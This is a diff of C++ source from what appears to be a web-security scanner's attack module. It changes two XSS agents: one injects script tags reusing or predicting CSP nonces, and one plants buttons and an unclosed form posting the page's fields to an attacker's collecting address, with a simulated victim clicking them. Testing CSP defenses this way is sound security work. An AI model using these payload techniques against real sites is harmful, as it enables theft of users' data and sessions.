@@ -1,22 +1,18 @@
 // Injected markup that needs no script of its own to begin with:
 //
 //   xss-base      <base> turns the page's relative scripts into the attacker's (CSP base-uri)
-//   xss-nonce     a script with the nonce of an earlier answer (a nonce is for one)
+//   xss-nonce     a script with the nonce of an earlier answer (a nonce is for one), or with the next
+//                 one where it can be foreseen
 //   xss-form      a button or form that sends the page's own fields away (CSP form-action)
 //   xss-dangling  an open quote or text area that swallows what follows (CSP img-src, form-action)
-#include <algorithm>
-
 #include "core/attack/every_agent.h"
 #include "core/attack/page_script.h"
 #include "core/attack/session.h"
 #include "core/attack/stored_text.h"
 #include "core/attack/tags.h"
-#include "core/base/ascii.h"
 
 namespace parapet::attack {
 namespace {
-
-constexpr long kMostGuesses = 60;  // requests between the attacker's look and the victim's page
 
 // The attacker's collecting address, or "" when he has no host.
 std::string collecting_address(Target& target) {
@@ -64,25 +60,15 @@ class XssNonce final : public Agent {
                     if (nonces.empty() || nonces.back() != *nonce) nonces.push_back(*nonce);
         target.note(std::to_string(nonces.size()) + " nonces are seen in answers.");
         if (nonces.empty()) return;
+        // Of those that were seen the first and the last, and the one that comes next.
+        if (nonces.size() > 2) nonces.erase(nonces.begin() + 1, nonces.end() - 1);
+        nonces.push_back(target.victim()->foreseen_nonce());
         std::string const script = taking_script(target, address);
         std::string scripts;
-        for (std::string const& nonce : worth_trying(nonces))
+        for (std::string const& nonce : nonces)
             scripts += "<script nonce=" + in_quotes(nonce) + ">" + script + "</script>";
         text.leave(scripts);
         victim_reads_and_loot_is_used(target);
-    }
-
-    // Those that were seen; and where they are numbers that count up, the next ones.
-    static std::vector<std::string> worth_trying(std::vector<std::string> const& seen) {
-        std::vector<std::string> all{seen.front()};
-        if (seen.back() != seen.front()) all.push_back(seen.back());
-        bool const are_numbers = std::all_of(seen.begin(), seen.end(), [](std::string const& each) {
-            return each.size() < 10 && std::all_of(each.begin(), each.end(), ascii::is_digit);
-        });
-        long const last = are_numbers ? std::atol(seen.back().c_str()) : 0;
-        for (long next = 1; are_numbers && next <= kMostGuesses; ++next)
-            all.push_back(std::to_string(last + next));
-        return all;
     }
 };
 
@@ -103,19 +89,27 @@ class XssForm final : public Agent {
                 }
         if (!labels.empty()) text.leave(buttons);
         if (!victim_signs_in(target)) return;
-        for (std::string const& label : labels) reads_and_clicks(target, label);
+        victim_does(target, routines_option(target, option::kDoes));
+        for (std::string const& label : labels) click(target, label);
         // A form that stays open: the page's own form within it is none, and its fields are his.
         std::string const label = "Read more about " + random_word(target, 5);
         text.leave("<form method=\"post\" action=" + away + "><button>" + label + "</button>");
-        reads_and_clicks(target, label);
+        reads_again(target);
+        (void)target.victim()->clicks(label);
         try_loot(target, received_texts(target));
     }
 
-    static void reads_and_clicks(Target& target, std::string const& label) {
-        for (std::string const& routine : routines_option(target, option::kDoes)) {
-            (void)target.victim()->does(routine);
-            (void)target.victim()->clicks(label);
-        }
+    // Where the page with the buttons is gone he comes back to it.
+    static void click(Target& target, std::string const& label) {
+        if (target.victim()->clicks(label) == Outcome::Done) return;
+        reads_again(target);
+        (void)target.victim()->clicks(label);
+    }
+
+    static void reads_again(Target& target) {
+        bool const has_other = !target.option(option::kAgain).empty();
+        victim_does(target,
+                    routines_option(target, has_other ? option::kAgain : option::kDoes));
     }
 };
 
